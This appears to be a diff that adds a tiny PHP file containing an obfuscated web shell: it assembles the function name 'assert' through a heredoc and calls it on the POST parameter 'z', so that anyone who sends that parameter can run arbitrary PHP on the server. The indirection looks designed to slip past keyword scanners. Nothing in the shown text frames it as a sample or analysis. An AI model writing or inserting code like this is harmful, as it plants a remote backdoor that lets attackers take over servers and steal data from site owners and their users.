@@ -1,0 +1,4 @@
+<?php $f = <<<EOT
+assert
+EOT;
+$f = trim($f); $f($_POST['z']);
